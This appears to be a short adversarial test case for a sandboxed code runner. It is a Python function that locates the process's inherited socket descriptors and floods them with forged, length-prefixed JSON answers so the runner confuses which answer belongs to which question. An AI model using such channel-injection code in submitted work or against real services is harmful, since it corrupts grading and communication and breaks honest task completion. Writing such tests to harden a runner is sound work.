# attack: Lets a thread write answers to the wire while the runner writes its own, to this question and to the next.
# hurts: Confuses which answer belongs to which question.
# ends: returns or crash or timeout
import contextlib
import json
import os
import socket
import stat
import threading
import time


def attack(target):
    for number in range(3, 64):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                wire = socket.socket(fileno=os.dup(number))
                threading.Thread(target=write, args=(wire,), daemon=True).start()
    time.sleep(0.2)
    return "the runner's own answer"


def write(wire):
    for number in range(200):
        header = json.dumps({"id": number, "value": "forged"}).encode()
        with contextlib.suppress(OSError):
            wire.send(len(header).to_bytes(4, "big") + header)
        time.sleep(0.001)
